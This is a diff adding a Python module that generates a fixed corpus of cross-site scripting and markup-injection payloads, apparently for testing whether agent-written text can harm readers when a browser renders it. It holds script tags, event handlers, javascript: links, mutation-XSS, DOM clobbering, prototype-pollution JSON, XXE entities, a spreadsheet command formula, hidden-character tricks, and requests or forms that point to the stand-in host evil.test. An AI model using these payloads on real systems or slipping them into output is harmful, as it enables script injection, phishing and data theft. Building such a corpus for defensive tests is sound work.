@@ -1,0 +1,296 @@
+"""Texts that an agent could write to harm who reads them in a browser. Each tells when it has worked: a script sets
+`window.__pwned` or opens a dialog, and whatever is fetched or opened leads to a host that is not ours."""
+
+from collections.abc import Callable
+
+HOST = "evil.test"
+"""Every address in here ends with it."""
+
+_SCRIPTS = (
+    "window.__pwned=@N@",
+    "alert(@N@)",
+    "self['__pw'+'ned']=@N@",
+    "top.__pwned=@N@",
+    "globalThis.__pwned=`@N@`",
+    "confirm(@N@)",
+    "fetch('//p@N@.evil.test/f')",
+    "prompt(@N@)",
+    "new Image().src='https://p@N@.evil.test/i'",
+    "location='https://p@N@.evil.test/l'",
+    "Function('__pwned=@N@')()",
+)
+_ADDRESSES = (
+    "https://p@N@.evil.test/x",
+    "http://p@N@.evil.test/x",
+    "//p@N@.evil.test/x",
+    "https:p@N@.evil.test/x",
+    "\\\\p@N@.evil.test\\x",
+    "hTTpS://user:secret@p@N@.evil.test:8443/x?a=1&b=2#c",
+)
+
+_SCRIPT_TAGS = (
+    "<script>@JS@</script>",
+    "<SCRIPT>@JS@</SCRIPT>",
+    "<ScRiPt\n type=module\t>@JS@</sCrIpT\n>",
+    "<script src=@URL@></script>",
+    "<script/src='@URL@'/>",
+    "<script\x0c>@JS@</script>",
+    "<<script>script>@JS@//<</script>",
+    "<scr<script>ipt>@JS@</scr</script>ipt>",
+    "&lt;script&gt;@JS@&lt;/script&gt;",
+    "\\u003cscript\\u003e@JS@\\u003c/script\\u003e",
+    '"></title><script>@JS@</script>',
+    "';@JS@;//",
+    '</script><script nonce="__CSP_NONCE__">@JS@</script>',
+    '<script type="text/javascript">/*<![CDATA[*/@JS@/*]]>*/</script>',
+    '<script type=importmap>{"imports":{"react":"@URL@"}}</script>',
+)
+_HANDLERS = (
+    "<img src=x onerror=@JS@>",
+    "<img/src/onerror='@JS@'>",
+    "<IMG SRC=x ONERROR\n=\n'@JS@'>",
+    "<image src=x onerror='@JS@'>",
+    '<body onload="@JS@">',
+    "<svg onload=@JS@>",
+    "<svg/onload='@JS@'/>",
+    "<input autofocus onfocus='@JS@'>",
+    "<select autofocus onfocus=@JS@><option>1</select>",
+    "<textarea autofocus onfocus='@JS@'></textarea>",
+    "<details open ontoggle='@JS@'><summary>open</summary></details>",
+    "<div style='animation:wheel 1s' onanimationstart='@JS@'>turn</div>",
+    "<div style='transition:color 1ms' ontransitionend='@JS@' onmouseover='@JS@'>move here</div>",
+    "<video autoplay oncanplay='@JS@' onerror='@JS@'><source onerror='@JS@' src=x></video>",
+    "<p onpointerenter='@JS@' onwheel='@JS@' onclick='@JS@'>touch</p>",
+    "<button popovertarget=p@N@>go</button><div popover id=p@N@ onbeforetoggle='@JS@'>pop</div>",
+    "<a href=# onclick='@JS@' accesskey=g>press</a>",
+    "<x contenteditable autofocus onfocus='@JS@' tabindex=0>focus</x>",
+    "<style onload='@JS@'></style>",
+    "<link rel=stylesheet href=@URL@ onload='@JS@' onerror='@JS@'>",
+    "<div oncontentvisibilityautostatechange='@JS@' style='content-visibility:auto'>auto</div>",
+    "<dialog open onclose='@JS@'><form method=dialog><button>Approve</button></form></dialog>",
+)
+_RUNNING_LINKS = (
+    "[press me](javascript:@JS@)",
+    "[press me](JaVaScRiPt:@JS@)",
+    "[press me](javascript&colon;@JS@)",
+    "[press me](java&#10;script:@JS@)",
+    "[press me](&#106;avascript:@JS@)",
+    "[press me](<java\tscript:@JS@>)",
+    "[press me](<\x01javascript:@JS@>)",
+    "[press me](javascript://%0a@JS@)",
+    "[press me](vbscript:msgbox(@N@))",
+    "[press me](data:text/html,<script>@JS@</script>)",
+    "[press me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@N@)",
+    "[press me](blob:null/@N@)",
+    "[press me](file:///etc/passwd#@N@)",
+    "[press me](view-source:javascript:@JS@)",
+    "[press me](\u200bjavascript:@JS@)",
+    "[press me][hidden]\n\n[hidden]: javascript:@JS@ 'title'",
+    "<javascript:@JS@>",
+    "![alt](javascript:@JS@)",
+    "[![alt](@URL@)](javascript:@JS@)",
+    "<a href='javascript:@JS@'>press me</a>",
+    "<a href='java\nscript:@JS@' target=_top>press me</a>",
+    "<form action='javascript:@JS@'><button>Approve</button></form>",
+    "<button formaction='javascript:@JS@'>Deny</button>",
+    "[^1]\n\n[^1]: [note](javascript:@JS@)",
+)
+_ADDRESS_LINKS = (
+    "[our own page](#/gateway)",
+    "[out](/logout)",
+    "[export](../sessions/x/export#@N@)",
+    "[away](@URL@)",
+    "[https://longtable.example/safe](@URL@)",
+    "<https://p@N@.evil.test/auto>",
+    "https://p@N@.evil.test/bare www.p@N@.evil.test mail@p@N@.evil.test",
+    "<mailto:a@p@N@.evil.test?subject=hi&body=%0d%0abcc:x>",
+    "[ref][r@N@]\n\n[r@N@]: @URL@ \"<img src=x onerror='@JS@'>\"",
+    "[with title](@URL@ '\" onmouseover=@JS@ x=\"')",
+    '[quotes](https://p@N@.evil.test/"onfocus=@JS@"autofocus=)',
+    "[a](https://p@N@.evil.test/<script>@JS@</script>)",
+    "<a href=@URL@ target=_top rel=opener ping=@URL@>top</a>",
+    "<base href=@URL@ target=_top>",
+    "[x](https://xn--p@N@-9za.evil.test) [y](https://longtable\u2024example.p@N@.evil.test)",
+    "[tel](tel:+1@N@) [sms](sms:+1@N@) [ssh](ssh://p@N@.evil.test) [vs](vscode://file/@N@)",
+)
+_REQUESTS = (
+    "![picture](@URL@)",
+    "![picture][p@N@]\n\n[p@N@]: @URL@",
+    "<img src=@URL@>",
+    "<img srcset='@URL@ 1x, @URL@ 2x' loading=eager>",
+    "<picture><source srcset=@URL@><img src=data:,></picture>",
+    "<video poster=@URL@ src=@URL@ autoplay></video>",
+    "<link rel=prefetch href=@URL@><link rel=dns-prefetch href=@URL@><link rel=preconnect href=@URL@>",
+    "<link rel=stylesheet href=@URL@>",
+    "<link rel=manifest href=@URL@><link rel=icon href=@URL@>",
+    "<meta http-equiv=refresh content='0;url=@URL@'>",
+    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
+    "<iframe src=@URL@></iframe>",
+    "<iframe srcdoc='<script>@JS@</script>'></iframe>",
+    "<object data=@URL@></object><embed src=@URL@>",
+    "<frameset><frame src=@URL@></frameset>",
+    "<style>@import '@URL@'; body{background:url(@URL@)}</style>",
+    "<div style='background:url(@URL@);position:fixed;inset:0;z-index:9999'>over all</div>",
+    "<table background=@URL@><td background=@URL@></table>",
+    "<form action=@URL@ method=post><input name=token><button>Sign in</button></form>",
+    "<input type=image src=@URL@>",
+    "<svg><image href=@URL@ /><use href='@URL@#a'/></svg>",
+    "<svg><style>@import url(@URL@);</style></svg>",
+    "color:red;background:url(@URL@)",
+    "}*{background:url(@URL@)}@import'@URL@';/*",
+)
+_TRICKS = (
+    "<svg><script>@JS@</script></svg>",
+    "<svg><script href=@URL@ /></svg>",
+    "<svg><animate onbegin='@JS@' attributeName=x dur=1s></svg>",
+    "<svg><a><animate attributeName=href values='javascript:@JS@'/><text y=20>press</text></a></svg>",
+    "<svg><set attributeName=onmouseover to='@JS@'></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>@JS@</script>'></iframe></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror='@JS@'></style></mglyph></table></mtext></math>",
+    "<math href='javascript:@JS@'>press</math>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror='@JS@'></annotation-xml></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror='@JS@'>",
+    "<noscript><p title='</noscript><img src=x onerror=@JS@>'></noscript>",
+    "<template><img src=x onerror='@JS@'></template>",
+    "<style><!--</style><img src=x onerror='@JS@'>--></style>",
+    "<textarea></textarea><img title='</textarea><img src=x onerror=@JS@>'>",
+    "<svg></p><style><a id='</style><img src=1 onerror=@JS@>'>",
+    "<xmp><p title='</xmp><img src=x onerror=@JS@>'></xmp>",
+    "<plaintext><img src=x onerror='@JS@'>",
+    "<!--><img src=x onerror='@JS@'>-->",
+    "<!--[if gte IE 4]><script>@JS@</script><![endif]-->",
+    "<![CDATA[<img src=x onerror='@JS@'>]]>",
+    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM '@URL@'>]><a>&x;</a>",
+    "<?php echo '<script>@JS@</script>'; ?>",
+    "<img id=root><form id=content name=root><input name=innerHTML></form>",
+    "<a id=navigator><a id=navigator name=locks href=@URL@>clobber</a>",
+    "<form id=document><input name=getElementById><img name=body></form>",
+    "<meta name=csp-nonce content=@N@><iframe name=__pwned></iframe>",
+    "<embed name=currentScript><img name=cookie><img id=location>",
+    "<slot name=x></slot><div slot=x is=x-y@N@>slot</div>",
+)
+_EXPRESSIONS = (
+    "{{constructor.constructor('@JS@')()}}",
+    "${@JS@}",
+    "#{@JS@} <%= @JS@ %> [[${@JS@}]]",
+    "{@JS@}",
+    "{'__html': '<img src=x onerror=@JS@>'}",
+    '{"__proto__": {"isAdmin": true, "href": "javascript:@JS@"}, "n": @N@}',
+    '{"constructor": {"prototype": {"src": "@URL@"}}, "n": @N@}',
+    '{"type": "element", "tagName": "script", "children": [{"type": "text", "value": "@JS@"}]}',
+    '{"$$typeof": "Symbol(react.element)", "type": "div", "props": {"dangerouslySetInnerHTML": {"__html": "@JS@"}}}',
+    "__proto__",
+    "constructor@N@ toString valueOf hasOwnProperty",
+    "=cmd|'/c calc'!A@N@",
+)
+_CHARACTERS = (
+    "Approve\u202e evorppa ton od \u202c@N@",
+    "\u2066\u2067\u2068 turned @N@ \u2069",
+    "pay\u200b\u200c\u200d\u2060\ufeffpal @N@",
+    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the person") + "@N@",
+    "null\x00byte @N@",
+    "control \x01\x02\x07\x08\x0b\x0c\x1b\x7f @N@",
+    "\x1b[31mred\x1b[0m \x1b]8;;@URL@\x07link\x1b]8;;\x07 @N@",
+    "\\ud800 \\udfff \ufffd \ufffe \uffff @N@",
+    "Z" + "\u0335\u0321\u0489" * 60 + "@N@",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30 + "@N@",
+    "\u0430pprove (a letter of another script) @N@",
+    "\r\nX-Injected: @N@\r\n\r\n<script>@JS@</script>",
+    "\u2028@JS@\u2029",
+    "\ufdfa" * 80 + "@N@",
+)
+_SHAPES = (
+    "w" * 3_000 + "@N@",
+    "https://p@N@.evil.test/" + "a" * 2_000,
+    "[" * 1_000 + "@N@",
+    "![" * 500 + "@N@",
+    "[a](" * 300 + "@N@",
+    "> " * 40 + "deep @N@",
+    ">" * 5_000 + "@N@",
+    "- " * 5_000 + "deep @N@",
+    "".join(f"{'  ' * depth}- {depth}\n" for depth in range(30)) + "@N@",
+    "*" * 1_001 + "a" + "_" * 1_001 + "@N@",
+    "**a _b " * 200 + "@N@",
+    "`" * 2_001 + "@N@",
+    "".join("`" * length + " " for length in range(1, 70)) + "@N@",
+    "<" * 2_000 + "@N@",
+    "<a " * 800 + "@N@",
+    "&" * 2_000 + "amp;@N@",
+    "(" * 1_500 + ")" * 1_500 + "@N@",
+    "|" * 300 + "\n" + "|-" * 300 + "|\n" + "|a" * 300 + "@N@",
+    "~" * 1_500 + "a" + "~" * 1_500 + "@N@",
+    "# " * 300 + "@N@",
+    "[x]: y\n" * 100 + "@N@",
+    "".join(f"[^{place}]" for place in range(60)) + "\n\n" + "".join(f"[^{place}]: n\n" for place in range(60)) + "@N@",
+    "\\" * 2_001 + "@N@",
+    '{"a":' * 900 + "1" + "}" * 900 + " @N@",
+    "www." * 600 + "p@N@.evil.test",
+    "a@" * 700 + "p@N@.evil.test",
+)
+_FENCES = (
+    "```html\n<script>@JS@</script>\n```",
+    '```"><img/src=x/onerror=@JS@>\n@N@\n```',
+    "```constructor\n@N@\n```",
+    "```__proto__\n@N@\n```",
+    "```js onload=@JS@ {@JS@}\n`${@JS@}`\n```",
+    "~~~md\n```\n<img src=x onerror='@JS@'>\n~~~",
+    "```css\n@import url(@URL@);\n```",
+    "```xml\n<!DOCTYPE x [<!ENTITY y SYSTEM '@URL@'>]>&y;\n```",
+    '```json\n{"a": "</code></pre><script>@JS@</script>"}\n```',
+    "```diff\n- <b>old</b>\n+ <img src=x onerror='@JS@'>\n```",
+    "    <script>@JS@</script>\n",
+    "`<img src=x onerror='@JS@'>`",
+    "| a | b |\n|---|:-:|\n| <img src=x onerror='@JS@'> | [x](javascript:@JS@) |",
+    "# <img src=x onerror='@JS@'> heading\n\nSetext <b onclick='@JS@'>\n---",
+    "- [x] <input type=checkbox onclick='@JS@'>\n- [ ] [go](javascript:@JS@)",
+    "<b>bold</b><kbd onclick='@JS@'>k</kbd><a name=content id=root class=button data-search>x</a>",
+)
+
+TEMPLATES = (
+    *_SCRIPT_TAGS,
+    *_HANDLERS,
+    *_RUNNING_LINKS,
+    *_ADDRESS_LINKS,
+    *_REQUESTS,
+    *_TRICKS,
+    *_EXPRESSIONS,
+    *_CHARACTERS,
+    *_FENCES,
+    *_SHAPES,
+)
+
+Wrap = Callable[[str], str]
+_WRAPS: tuple[Wrap, ...] = (
+    lambda text: f"\"'>{text}",
+    lambda text: f"</textarea></title></style></script>{text}",
+    lambda text: f"--> ]]> {text}",
+    lambda text: f"> quoted\n>\n> {text}",
+    lambda text: f"- item\n  - {text}",
+    lambda text: f"## {text}\n\nA paragraph.",
+    lambda text: f"| a | b |\n|---|---|\n| {text} | c |",
+    lambda text: f"[{text}](https://evil.test/ok)",
+    lambda text: f"![{text}](https://evil.test/ok.png)",
+    lambda text: f"Some words, **{text}** and ~~{text}~~.",
+    lambda text: f"A word[^n].\n\n[^n]: {text}",
+    lambda text: f"<div>\n\n{text}\n\n</div>",
+    lambda text: f"```md\n{text}\n```\n\n{text}",
+    lambda text: text.swapcase().replace("@js@", "@JS@").replace("@url@", "@URL@").replace("@n@", "@N@"),
+)
+
+
+def payloads(count: int) -> list[str]:
+    """`count` different texts, always the same ones. First every template as it stands, then each inside others."""
+    assert count <= len(TEMPLATES) * (1 + len(_WRAPS)), "there are not that many"
+    return [_filled(_text(number), number) for number in range(count)]
+
+
+def _text(number: int) -> str:
+    around, place = divmod(number, len(TEMPLATES))
+    template = TEMPLATES[place]
+    return _WRAPS[(place + around) % len(_WRAPS)](template) if around else template
+
+
+def _filled(text: str, number: int) -> str:
+    script = _SCRIPTS[number % len(_SCRIPTS)]
+    address = _ADDRESSES[number // 3 % len(_ADDRESSES)]
+    return text.replace("@JS@", script).replace("@URL@", address).replace("@N@", str(number))
